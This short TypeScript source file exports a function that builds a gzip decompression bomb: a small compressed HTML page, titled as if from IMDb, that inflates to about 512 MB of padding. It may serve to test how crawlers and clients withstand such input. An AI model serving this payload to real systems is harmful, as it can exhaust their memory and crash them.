import { gzipParts, ownPart, type PagePart, sharedPart } from '../page-part.js';

const MEGABYTE = 2 ** 20;
const built = new Map<number, Buffer>();

/** Gzip of a page that inflates to about that many bytes, a thousandth of them on the wire. Default: 512 MB. */
export function gzipBomb(bytes = 512 * MEGABYTE): Buffer {
  const known = built.get(bytes);
  if (known !== undefined) return known;
  const blank = sharedPart(' '.repeat(MEGABYTE));
  const parts: PagePart[] = [ownPart('<!DOCTYPE html><html><head><title>IMDb</title></head><body>')];
  for (let size = 0; size < bytes; size += MEGABYTE) parts.push(blank);
  const bomb = gzipParts(parts);
  built.set(bytes, bomb);
  return bomb;
}
